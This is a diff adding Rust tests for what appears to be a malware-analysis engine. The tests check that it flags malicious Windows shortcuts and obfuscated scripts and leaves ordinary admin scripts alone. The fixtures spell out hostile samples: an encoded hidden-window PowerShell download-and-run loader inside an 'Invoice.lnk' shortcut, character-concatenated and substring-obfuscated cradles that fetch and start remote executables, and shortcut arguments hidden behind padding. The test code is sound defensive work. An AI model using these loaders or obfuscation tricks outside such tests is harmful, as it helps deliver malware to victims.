@@ -1,0 +1,207 @@
+//! Shortcuts, documents and scripts through the whole engine: what is carried, what is found, and the ordinary life that
+//! is left alone.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "a test"
+)]
+
+use watchfire_analysis::{Analysis, Engine, Settings};
+use watchfire_model::{Artifact, Hints, Origin};
+use watchfire_testkit::encode::{base64, utf16le};
+use watchfire_testkit::shortcut::{Link, internet_shortcut};
+
+fn analyze(name: &str, bytes: &[u8]) -> Analysis {
+    let engine = Engine::new(Settings::default());
+    let hints = Hints {
+        name: Some(name.into()),
+        ..Hints::default()
+    };
+    engine.analyze(Artifact::new(bytes, Origin::root(name), hints), &engine.budget())
+}
+
+/// Findings as `rule weight`, children by their names, and values that must have been seen.
+#[track_caller]
+fn check(name: &str, bytes: &[u8], findings: &[(&str, u16)], children: &[&str], seen: &[&str]) -> Analysis {
+    let analysis = analyze(name, bytes);
+    let found: Vec<(&str, u16)> = analysis
+        .findings
+        .iter()
+        .map(|finding| (finding.rule.0, finding.weight.thousandths()))
+        .collect();
+    assert_eq!(found, findings, "{name}: {:#?}", analysis.findings);
+    let root = format!("{name} ▸ ");
+    let carried: Vec<&str> = analysis
+        .artifacts
+        .iter()
+        .filter_map(|artifact| artifact.path.raw().strip_prefix(&root))
+        .collect();
+    assert_eq!(carried, children, "{name}");
+    let values: Vec<&str> = analysis
+        .artifacts
+        .iter()
+        .flat_map(|artifact| &artifact.observables)
+        .map(|seen| seen.observable.raw())
+        .collect();
+    for value in seen {
+        assert!(values.contains(value), "{name}: no '{value}' in {values:?}");
+    }
+    let panics: Vec<_> = analysis
+        .diagnostics
+        .iter()
+        .filter(|said| said.code.ends_with("-panic"))
+        .collect();
+    assert!(panics.is_empty(), "{panics:?}");
+    analysis
+}
+
+const LOADER: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')";
+
+#[test]
+fn a_shortcut_with_an_encoded_command_is_taken_apart() {
+    let command = format!("-nop -w hidden -e {}", base64(&utf16le(LOADER)));
+    let link = Link::new()
+        .to("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
+        .arguments(&command)
+        .machine("desktop-a1", [0, 0xc, 0x29, 1, 2, 3])
+        .build();
+    check(
+        "Invoice.lnk",
+        &link,
+        &[("shortcut-runs-interpreter", 650), ("script-downloads-and-runs", 600)],
+        &["command-1.ps1"],
+        &["http://203.0.113.66/a.ps1"],
+    );
+}
+
+#[test]
+fn arguments_behind_blanks_are_found() {
+    let padded = format!("{}/c start https://example.org/x.exe", " ".repeat(300));
+    let link = Link::new()
+        .to("C:\\Windows\\System32\\cmd.exe")
+        .arguments(&padded)
+        .build();
+    check(
+        "Invoice.lnk",
+        &link,
+        &[("shortcut-runs-interpreter", 200), ("shortcut-hidden-arguments", 600)],
+        &[],
+        &["https://example.org/x.exe"],
+    );
+}
+
+#[test]
+fn shortcuts_to_shares_of_other_networks_are_found() {
+    let link = Link::new().to_share("\\\\203.0.113.66\\webdav", "tool.exe").build();
+    check("a.lnk", &link, &[("shortcut-remote-file", 500)], &[], &[]);
+    let url = internet_shortcut("file://203.0.113.66/share/a.exe", "");
+    check("a.url", &url, &[("shortcut-remote-file", 500)], &[], &[]);
+    let icon = internet_shortcut("https://www.example.org/", "\\\\203.0.113.66\\a\\b.ico");
+    check("a.url", &icon, &[("shortcut-remote-file", 450)], &[], &[]);
+}
+
+#[test]
+fn ordinary_shortcuts_say_nothing() {
+    let word = Link::new()
+        .to("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
+        .icon("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
+        .build();
+    check("Word.lnk", &word, &[], &[], &[]);
+    let share = Link::new().to_share("\\\\files01\\projects", "plan.xlsx").build();
+    check("plan.lnk", &share, &[], &[], &[]);
+    let site = internet_shortcut("https://www.example.org/", "C:\\Windows\\System32\\url.dll");
+    check("site.url", &site, &[], &[], &[]);
+    let tool = Link::new()
+        .to("C:\\Windows\\System32\\cmd.exe")
+        .arguments("/k C:\\tools\\env.cmd")
+        .build();
+    check("prompt.lnk", &tool, &[("shortcut-runs-interpreter", 200)], &[], &[]);
+}
+
+#[test]
+fn what_stands_behind_a_link_is_an_artifact() {
+    let page = b"<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>".repeat(20);
+    let link = Link::new()
+        .to("C:\\Windows\\System32\\mshta.exe")
+        .arguments("a.lnk")
+        .behind(&page)
+        .build();
+    check(
+        "a.lnk",
+        &link,
+        &[
+            ("shortcut-runs-interpreter", 200),
+            ("shortcut-hidden-arguments", 400),
+            ("document-script-page", 200),
+        ],
+        &["behind the link"],
+        &[],
+    );
+}
+
+#[test]
+fn scripts_that_hide_what_they_load_are_found() {
+    let hidden = "$u='http://203.0.113.66/x';&([char]105+[char]101+[char]120)((New-Object ('Net.We'+'bClient')).('Downlo'+'adString').Invoke($u))";
+    check(
+        "a.ps1",
+        hidden.as_bytes(),
+        &[("script-downloads-and-runs", 250), ("script-hides-words", 500)],
+        &[],
+        &["http://203.0.113.66/x"],
+    );
+    let batch = "@set a=erpowshell\r\n%a:~2,3%%a:~0,2%%a:~5,5% -w hidden -c \"iwr http://203.0.113.66/x -o x.exe; start x.exe\"\r\n";
+    check(
+        "a.cmd",
+        batch.as_bytes(),
+        &[("script-downloads-and-runs", 500), ("script-hides-words", 500)],
+        &[],
+        &["http://203.0.113.66/x"],
+    );
+}
+
+#[test]
+fn scripts_of_administrators_are_left_alone() {
+    for (name, script) in [
+        (
+            "a.ps1",
+            "# Restarts the spooler\nStop-Service Spooler\nStart-Service Spooler\n",
+        ),
+        (
+            "b.cmd",
+            "@echo off\r\nset SRC=%~dp0\r\nxcopy /e \"%SRC%files\" C:\\tools\r\n%COMSPEC% /c exit\r\n",
+        ),
+        (
+            "c.js",
+            "var x=new XMLHttpRequest();x.open('GET','/a');x.send();eval('1');/a/.exec('a');",
+        ),
+        (
+            "d.vbs",
+            "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nMsgBox fso.FolderExists(\"C:\\a\")\n",
+        ),
+    ] {
+        check(name, script.as_bytes(), &[], &[], &[]);
+    }
+    check(
+        "setup.ps1",
+        b"Invoke-WebRequest https://www.example.org/a.msi -OutFile a.msi\nStart-Process msiexec.exe -Wait\n",
+        &[("script-downloads-and-runs", 250)],
+        &[],
+        &[],
+    );
+}
+
+#[test]
+fn encoded_scripts_of_windows_are_decoded() {
+    let text = "#@~^DgAAAA==\\ko$K6,JC\u{7f}V^GJqAQAAA==^#~@";
+    let analysis = check(
+        "a.vbe",
+        text.as_bytes(),
+        &[("script-hides-words", 350)],
+        &["decoded.vbs"],
+        &[],
+    );
+    assert_eq!(analysis.artifacts.len(), 2);
+}
